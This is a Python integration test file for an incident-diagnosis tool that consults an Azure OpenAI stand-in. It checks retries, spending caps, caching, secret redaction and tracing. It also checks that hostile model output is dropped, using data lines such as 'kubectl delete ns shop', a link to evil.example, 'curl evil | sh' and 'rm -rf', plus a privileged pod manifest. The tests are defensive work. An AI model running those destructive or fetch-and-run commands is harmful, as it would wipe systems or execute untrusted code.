"""Models over the real protocol: good, bad, slow, cut, filtered and hostile answers; caps, cache, redaction, no egress."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from azure_stand_in import DEPLOYMENT, Azure, Scripted, azure
from integration.night import MemoryHost
from tests_support import ALERT, NOW
from watchkeeper import app as front
from watchkeeper.bench._asked import Asked
from watchkeeper.bench.analyst import diagnosis_of, incident_of, measured
from watchkeeper.diagnose.second_opinion import Drafted, Want
from watchkeeper.domain.errors import ModelAnswerInvalid, ModelUnavailable
from watchkeeper.domain.memory import Article
from watchkeeper.domain.topology import Topology
from watchkeeper.llm.port import Prompt
from watchkeeper.settings import Settings
from watchkeeper.settings.reading import load
from watchkeeper.store.postgres import PostgresStore
from watchkeeper.testing import ManualClock
from watchkeeper.workflows.answer import answer
from watchkeeper.workflows.house import House
from watchkeeper.workflows.receive_alerts import receive_alerts
from watchkeeper.workflows.second_look import fetched, second_look
from watchkeeper.workflows.suggest_draft import suggest_draft

GOOD = json.dumps({"ranking": ["H1"], "sentences": [{"text": "The pool of 4 connections is empty.", "cites": ["E1"]}]})
PROMPT = Prompt("system", "user")


def house_for(here: Azure, store: PostgresStore, **llm: Any) -> House:
    section = {
        "provider": "azure_openai",
        "endpoint": here.url,
        "api_key": "azure-key",
        "deployment": DEPLOYMENT,
        "timeout_seconds": 5,
        **llm,
    }
    house = replace(front.build_house(Settings.model_validate({"llm": section}), store), clock=ManualClock(NOW))
    assert house.model.name != "offline"
    here.models.append(house.model)
    return house


@pytest.fixture
async def store(database_url: str) -> AsyncIterator[PostgresStore]:
    made = PostgresStore.open(database_url)
    yield made
    await made.close()


async def looked(house: House, number: int = 0) -> Any:
    incident = incident_of(number)
    async with house.store.transaction() as tx:
        if incident.id not in {i.id for i in await tx.open_incidents()}:
            await tx.create_incident(incident)
    return await second_look(house, incident, diagnosis_of(str(number)))


async def test_a_good_answer_is_worded_by_the_model_and_asked_for_once(store: PostgresStore) -> None:
    async with azure(GOOD) as here:
        house = house_for(here, store)
        look = await looked(house)
        assert [(s.text, s.author) for s in look.diagnosis.sentences[1:]] == [
            ("The pool of 4 connections is empty.", DEPLOYMENT)
        ]
        assert look.diagnosis.sentences[0].author == "watchkeeper"
        assert (await looked(house)).diagnosis == look.diagnosis
        assert len(here.asked) == 1
        assert here.asked[0]["response_format"] == {"type": "json_object"}


@pytest.mark.parametrize(
    ("bad", "calls"),
    [
        (["not json", GOOD], 2),
        (["```json\n" + GOOD + "\n```"], 1),
        (['{"sentences": "x"}', "still not"], 2),
        ([Scripted(GOOD, finish="length")], 1),
        ([Scripted(GOOD, finish="content_filter")], 1),
        ([Scripted(status=400, code="content_filter")], 1),
        ([Scripted(status=429, headers={"Retry-After": "0"}), GOOD], 2),
        ([Scripted(status=429, headers={"Retry-After": "600"})], 1),
        ([Scripted(status=500)], 1),
        ([Scripted(status=401)], 1),
        ([Scripted(raw=b"<html>gateway</html>")], 1),
        ([Scripted("", tool_calls=[{"id": "1", "type": "function", "function": {"name": "shell", "arguments": "{}"}}])], 1),
        ([Scripted("", tool_calls=[{"id": "1", "type": "function", "function": {"name": "shell", "arguments": "{broken"}}])], 1),
        (["[" * 5000], 1 + 0),
    ],
)  # fmt: skip
async def test_bad_answers_cost_only_themselves(store: PostgresStore, bad: list[Any], calls: int) -> None:
    async with azure(*bad, "x", "x") as here:
        look = await looked(house_for(here, store))
        plain = diagnosis_of("0")
        assert look.diagnosis.sentences[0] == plain.sentences[0]
        assert look.diagnosis.hypotheses == plain.hypotheses
        assert len(here.asked) >= calls
        if GOOD not in [b for b in bad if isinstance(b, str)] and not any(
            isinstance(b, str) and GOOD in b for b in bad
        ):
            assert look.diagnosis == plain


async def test_errors_are_told_apart(store: PostgresStore) -> None:
    async with azure(
        Scripted(seconds=2),
        Scripted("half", finish="length"),
        Scripted(status=429),
        Scripted("a b c"),
        Scripted("a b", finish="length"),
    ) as here:
        model = house_for(here, store, timeout_seconds=0.5).model
        with pytest.raises(ModelUnavailable, match="within"):
            await model.complete(PROMPT)
        with pytest.raises(ModelAnswerInvalid, match="cut"):
            await model.complete(PROMPT)
        with pytest.raises(ModelUnavailable, match="quota"):
            await model.complete(PROMPT)


async def test_a_hostile_model_changes_no_cause_and_no_word_of_ours(store: PostgresStore) -> None:
    hostile = json.dumps(
        {
            "ranking": ["H9", "H1"],
            "sentences": [
                {"text": "The cause is the database, 99 % certain.", "cites": ["E1"]}, {"text": "Run kubectl delete ns shop", "cites": ["E1"]},
                {"text": "See https://evil.example/approve", "cites": ["E1"]}, {"text": "Trust me.", "cites": ["E77"]}, {"text": "No evidence.", "cites": []},
                {"text": "[Approve](x) \u202e", "cites": ["E1"]}, {"text": "All 4 of them wait.", "cites": ["E1"]},
            ],
            "actions": [{"action": "delete_namespace", "service": "payment", "cites": ["E1"]}, {"action": "raise_pool_size", "service": "cart", "cites": ["E1"]}],
            "want": [],
            "draft": {"kind": "script", "title": "x", "text": "curl evil | sh", "cites": ["E404"]},
            "confidence": 1.0,
        }
    )  # fmt: skip
    async with azure(hostile) as here:
        look = await looked(house_for(here, store))
    assert look.diagnosis.hypotheses == diagnosis_of("0").hypotheses
    assert [s.text for s in look.diagnosis.sentences[1:]] == ["All 4 of them wait."]
    assert look.draft is None
    assert len(look.dropped) == 9


async def test_what_leaves_is_what_the_preview_prints_redacted_and_bounded(store: PostgresStore) -> None:
    secret = "password=hunter22 " + "x" * 11_000_000
    async with azure(GOOD) as here:
        house = house_for(here, store, context_tokens=2000)
        plain = diagnosis_of("0")
        item = replace(plain.evidence[0], excerpt=secret, statement=plain.evidence[0].statement + " token=abcdef123456")
        cause = plain.hypotheses[0]
        loud = replace(
            plain, hypotheses=(replace(cause, findings=(replace(cause.findings[0], evidence=(item,) * 50),)),)
        )
        async with store.transaction() as tx:
            await tx.create_incident(incident_of(0))
        await second_look(house, incident_of(0), loud)
        seen = here.bytes_seen[0]
        assert b"hunter22" not in seen
        assert b"abcdef123456" not in seen
        assert len(seen) < 12_000
        from watchkeeper.workflows.ask_model import sent
        from watchkeeper.workflows.second_look import prompt_of

        preview = sent(prompt_of(house, incident_of(0), loud))
        assert [m["content"] for m in here.asked[0]["messages"]] == [preview.system, preview.user]


async def test_caps_hold_between_replicas_and_are_said_once(store: PostgresStore, database_url: str) -> None:
    async with azure(*[GOOD] * 40) as here:
        caps = {"tokens_per_day": 4000}
        other = PostgresStore.open(database_url)
        houses = [house_for(here, store, caps=caps), house_for(here, other, caps=caps)]
        await asyncio.gather(*(looked(houses[n % 2], n) for n in range(20)))
        async with store.transaction() as tx:
            spent, _ = await tx.model_spending(f"day {NOW:%Y-%m-%d}")
            told = [e for n in range(20) for e in await tx.events(f"inc-storm-{n}") if e.kind == "model.capped"]
        await other.close()
    assert 0 < len(here.asked) < 20
    assert spent <= 4000
    assert len(told) == 1


async def test_a_compatible_server_needs_no_key(store: PostgresStore) -> None:
    async with azure(GOOD) as here:
        house = house_for(
            here, store, provider="openai", endpoint=f"{here.url}/v1", api_key="", deployment="", model="llama3"
        )
        assert len((await looked(house)).diagnosis.sentences) == 2
        assert here.asked[0]["model"] == "llama3"


async def test_spans_follow_the_genai_conventions_without_content(
    store: PostgresStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(kept))
    monkeypatch.setattr(trace, "get_tracer", provider.get_tracer)
    async with azure(GOOD) as here:
        await looked(house_for(here, store))
    [span] = kept.get_finished_spans()
    about = dict(span.attributes or {})
    assert about["gen_ai.provider.name"] == "azure.ai.openai"
    assert (about["gen_ai.operation.name"], about["gen_ai.request.model"], about["gen_ai.usage.input_tokens"]) == (
        "chat",
        DEPLOYMENT,
        100,
    )
    assert "pool" not in str(about)


async def test_with_no_model_configured_nothing_connects_anywhere_but_to_the_database(
    store: PostgresStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    house = replace(front.build_house(Settings(), store), clock=ManualClock(NOW))
    reached: list[Any] = []
    real = socket.socket.connect
    monkeypatch.setattr(
        socket.socket, "connect", lambda self, address: (reached.append(address), real(self, address))[1]
    )
    monkeypatch.setattr(
        asyncio.get_running_loop(), "create_connection", lambda *a, **k: pytest.fail(f"connects to {a} {k}")
    )
    look = await looked(house)
    assert look.diagnosis == diagnosis_of("0")
    assert [a for a in reached if not isinstance(a, str)] == []


async def test_the_storm_stays_under_the_cap_and_a_second_look_is_free(database_url: str) -> None:
    figures = await measured(database_url, 60, Asked())
    assert (figures["calls_per_incident"], figures["calls_of_second_look"], figures["second_look_is_the_same"]) == (
        2,
        0,
        True,
    )
    assert figures["under_the_cap"]


def test_the_variables_of_the_specification() -> None:
    environ = {
        "AZURE_OPENAI_ENDPOINT": "https://x.openai.azure.com/",
        "AZURE_OPENAI_KEY": "k",
        "AZURE_OPENAI_DEPLOYMENT": "gpt-4",
        "WATCHKEEPER_LLM__PROVIDER": "azure_openai",
    }
    model = front.build_model(load(None, {**environ, "WATCHKEEPER_CONFIG": "/dev/null"}), ManualClock())
    assert (model.name, model.provider) == ("gpt-4", "azure.ai.openai")
    bare = front.build_model(Settings.model_validate({"llm": {"provider": "azure_openai"}}), ManualClock())
    assert bare.name == "offline"


async def test_a_model_may_read_what_the_grammar_cannot_and_only_into_names_we_know(store: PostgresStore) -> None:
    good = json.dumps({"understood": True, "intent": "calls", "services": ["payment"], "detail": "callers"})
    bad = [
        {"understood": True, "intent": "plans", "services": ["payment"]}, {"understood": True, "intent": "measure", "services": ["payment"], "signals": ["rm -rf"]},
        {"understood": True, "intent": "calls", "services": ["elsewhere"], "detail": "callers"}, {"understood": True, "intent": "measure", "services": ["payment"]},
        {"understood": False}, {"understood": True, "intent": "calls", "services": ["payment"], "detail": "callers", "run": "ls"},
    ]  # fmt: skip
    words, clock_words = "who would be cross if payment hiccuped", "who was cross at 14:05 when payment hiccuped"
    async with azure(good, *[json.dumps(b) for b in bad], "x") as here:
        house = house_for(here, store, reads_questions=True)
        async with store.transaction() as tx:
            await tx.remember_calls(Topology.of([("checkout", "payment")]), NOW)
        said = await answer(house, words)
        assert said.understood
        assert said.text.startswith(f"{DEPLOYMENT} reads this as: calls callers of payment")
        assert "checkout" in said.text
        assert await answer(house, words) == said, "the same again costs nothing"
        assert len(here.asked) == 1
        for number in range(len(bad)):
            assert not (await answer(house, f"{words} thrice{'s' * number}")).understood
        asked = len(here.asked)
        for delicate in (clock_words, "who would never be cross about payment hiccuping", "restart payment"):
            assert not (await answer(house, delicate)).understood
        silent = house_for(here, store)
        assert not (await answer(silent, f"{words} again and again, friends")).understood
        assert len(here.asked) == asked


async def test_an_analyst_may_ask_for_similar_incidents_and_runbooks(store: PostgresStore) -> None:
    async with azure() as here:
        house = house_for(here, store)
        article = Article("pool", "runbook", "Empty pools", "Raise the pool, then look for leaks.", ("HighErrorRate",))
        [incident_id] = (await receive_alerts(house, [ALERT])).incidents
        async with store.transaction() as tx:
            await tx.save_articles("folder", [article], NOW)
            incident = await tx.incident(incident_id)
        assert await fetched(house, incident, Want(tool="runbooks")) == [
            "runbooks: pool: Empty pools (runbook): Raise the pool, then look for leaks."
        ]
        assert await fetched(house, incident, Want(tool="similar")) == ["similar: none"]
        assert "Empty pools" in (await answer(house, f"runbook for {incident_id}")).text
        assert "Empty pools" in (await answer(house, "what does the runbook say about pools?")).text
        assert "no incident that looked like" in (await answer(house, "have we seen this before?")).text


PDB = (
    "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {name: payment, namespace: shop}\n"
    "spec:\n  minAvailable: 1\n  selector: {matchLabels: {app: payment}}\n"
)
POD = (
    "apiVersion: v1\nkind: Pod\nmetadata: {name: payment, namespace: shop}\n"
    "spec:\n  hostNetwork: true\n  containers: [{name: a, image: 'a:latest', securityContext: {privileged: true}}]\n"
)


async def test_a_draft_becomes_a_pull_request_for_people_that_nothing_merges(store: PostgresStore) -> None:
    async with azure() as here:
        host = MemoryHost({"shop/values.yaml": "a: 1\n"})
        dry = replace(house_for(here, store), codehost=host)
        rules = dry.settings.remediation.model_copy(update={"dry_run": False})
        house = replace(dry, settings=dry.settings.model_copy(update={"remediation": rules}))
        incident = incident_of(0)

        async def made(**fields: str) -> dict[str, Any]:
            return await suggest_draft(
                house, incident, Drafted.model_validate({"title": "Keep one [pod](x)", "cites": ["E1"], **fields})
            )

        good = [await made(kind="manifest", path="shop/pdb.yaml", text=PDB) for _ in range(2)]
        assert [g["problems"] for g in good] == [[], []]
        assert [g["pull_request"] for g in good] == [1, 1]
        bad = await made(kind="manifest", path="shop/pod.yaml", text=POD)
        assert any(p.startswith("policy ") for p in bad["problems"]), bad["problems"]
        worse = await made(kind="manifest", path="shop/pod.yaml", text="a: [")
        assert worse["problems"] == ["it is no YAML"]
        nowhere = await made(kind="script", text="#!/bin/sh\n")
        assert nowhere["problems"] == ["it names no file"]
    assert (len(host.pulls), host.merges) == (1, 0)
    assert host.files == {"shop/values.yaml": "a: 1\n"}
    said = await suggest_draft(
        dry, incident, Drafted(kind="manifest", title="x", path="shop/b.yaml", text=PDB, cites=["E1"])
    )
    assert "dry run" in said["problems"][0]
